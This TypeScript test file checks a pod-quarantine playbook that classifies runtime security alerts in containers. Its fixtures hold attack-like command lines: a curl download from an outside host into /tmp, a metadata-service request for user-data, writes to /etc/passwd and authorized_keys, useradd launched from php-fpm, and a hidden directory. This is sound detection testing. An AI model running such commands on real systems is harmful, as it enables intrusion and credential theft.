import type { Alert } from '../../core/incident/alert';
import type { PodFacts } from '../../core/incident/podFacts';
import { actsByPlaybook, playbook } from '../../core/policy/playbook';
import { LATE_SIGNS } from '../../core/policy/table/lateSigns';
import { signsOf } from '../../core/policy/table/raise';
import { alertOf, contextOf } from '../support/alerts';
import { factsWith } from '../support/pods';

type Fields = Readonly<Record<string, string | number>>;

const alertWith = (rule: string, fields: Fields): Alert =>
  alertOf('pod-quarantine-test', { rule, tags: [], fields, output: '' });
const afterSeconds = (ranSeconds: number | null, change: Partial<PodFacts> = {}) => {
  const facts = factsWith(change);
  return { ...facts, container: { ...facts.container, ranSeconds } };
};
const DAY = afterSeconds(86_400);
const decided = (alert: Alert, facts: PodFacts | undefined) =>
  playbook(alert, { ...contextOf(alert), ...(facts === undefined ? {} : { facts }) }).decision;
const inShell = (fields: Fields): Fields => ({ 'proc.tty': 0, 'proc.pname': 'sh', ...fields });
const OUTSIDE = '10.244.1.9:40110->203.0.113.9:443';

const PACKAGES = 'Launch Package Management Process in Container';
const INSTALLING = inShell({ 'proc.name': 'apk', 'proc.cmdline': 'apk add bind-tools' });

const ATTACKS: readonly (readonly [name: string, rule: string, fields: Fields])[] = [
  ['late_work_in_shell', PACKAGES, INSTALLING],
  ['late_work_in_shell', 'Adding ssh keys to authorized_keys', inShell({ 'proc.name': 'tee' })],
  ['late_work_of_server', 'User mgmt binaries', { 'proc.tty': 0, 'proc.pname': 'php-fpm8.3', 'proc.name': 'useradd' }],
  [
    'late_network_tool',
    'Launch Suspicious Network Tool in Container',
    inShell({ 'proc.name': 'tcpdump', 'proc.cmdline': 'tcpdump -ni any port 5432' }),
  ],
  [
    'late_client_without_rights',
    'Kubernetes Client Tool Launched in Container',
    inShell({ 'proc.name': 'kubectl', 'proc.cmdline': 'kubectl get pods' }),
  ],
  ['late_system_file', 'Write below etc', inShell({ 'proc.name': 'tee', 'fd.name': '/etc/passwd' })],
  ['late_system_file', 'Write below root', inShell({ 'proc.name': 'sh', 'fd.name': '/root/.profile' })],
  [
    'late_hidden_file',
    'Create Hidden Files or Directories',
    inShell({ 'proc.name': 'mkdir', 'evt.arg.path': '/var/tmp/.sysd' }),
  ],
  [
    'late_download',
    'Launch Ingress Remote File Copy Tools in Container',
    inShell({ 'proc.name': 'curl', 'proc.cmdline': 'curl -s -o /tmp/lib http://files.example/lib' }),
  ],
  [
    'late_cloud_request',
    'Contact cloud metadata service from container',
    inShell({ 'proc.name': 'curl', 'proc.cmdline': 'curl -s http://169.254.169.254/latest/user-data' }),
  ],
  [
    'late_connection',
    'Network Connection outside Local Subnet',
    inShell({ 'proc.name': 'cat', 'proc.cmdline': 'cat', 'fd.name': OUTSIDE }),
  ],
];

describe.each(ATTACKS)('the sign %s in "%s"', (name, rule, fields) => {
  const alert = alertWith(rule, fields);
  const names = (facts: PodFacts, changed: Fields = {}) =>
    signsOf(alertWith(rule, { ...fields, ...changed }), facts).map((sign) => sign.name);

  test('isolates a pod that has served for a while', () => {
    expect(names(DAY)).toContain(name);
    expect(decided(alert, DAY)).toBe('quarantine_pod');
  });

  test('is not found in the first ten minutes, or where nobody knows when the container started', () => {
    for (const seconds of [null, -1, 0, 599]) expect(names(afterSeconds(seconds))).not.toContain(name);
    expect(names(afterSeconds(600))).toContain(name);
  });

  test('is not found where a person works in a terminal', () => {
    expect(names(DAY, { 'proc.tty': 34816 })).not.toContain(name);
  });

  test('goes to a person where the specification starts a shell, in a job, in an agent, and where people judged the rule', () => {
    const history = { incidents: 4, workloads: 1, falsePositives: 2, truePositives: 0 };
    for (const change of [{ programs: ['sh'] }, { runsOnce: true }, { access: ['host_path'] as const }, { history }])
      expect(decided(alert, afterSeconds(86_400, change as Partial<PodFacts>))).toBe('escalate');
  });

  test('counts before any fact is known', () => {
    expect(decided(alert, undefined)).toBe('quarantine_pod');
    expect(actsByPlaybook(alert)).toBe(true);
  });
});

test('every sign of this file is above', () => {
  expect(LATE_SIGNS.map(({ name }) => name).toSorted()).toEqual([...new Set(ATTACKS.map(([name]) => name))].toSorted());
});

test.each<[string, string, Fields]>([
  ['a shell by kubectl exec', PACKAGES, { ...INSTALLING, 'proc.aname[2]': 'containerd-shim' }],
  ['a job of cron', 'Container Drift Detected (chmod)', inShell({ 'proc.aname[2]': 'crond' })],
  [
    'a look at its own port',
    'Launch Suspicious Network Tool in Container',
    inShell({ 'proc.cmdline': 'nc -z 127.0.0.1 5432' }),
  ],
  [
    'a handler of interruptions',
    'Contact cloud metadata service from container',
    inShell({ 'proc.cmdline': 'curl -s http://169.254.169.254/latest/meta-data/spot/instance-action' }),
  ],
  ['a setting of its own', 'Write below etc', inShell({ 'fd.name': '/etc/nginx/conf.d/upstreams.conf' })],
  [
    'the socket of a display',
    'Create Hidden Files or Directories',
    inShell({ 'evt.arg.path': '/tmp/.X11-unix', 'proc.cmdline': 'mkdir /tmp/.X11-unix' }),
  ],
  [
    'a connection inside the cluster',
    'Network Connection outside Local Subnet',
    inShell({ 'proc.name': 'bash', 'fd.name': '10.0.0.1:2->10.96.0.7:5432' }),
  ],
  [
    'a file for its own folder',
    'Launch Ingress Remote File Copy Tools in Container',
    inShell({ 'proc.cmdline': 'curl -s -o /srv/flags.json https://flags.example/flags.json' }),
  ],
])('%s is left to a person', (_what, rule, fields) => {
  expect(decided(alertWith(rule, fields), DAY)).toBe('escalate');
});
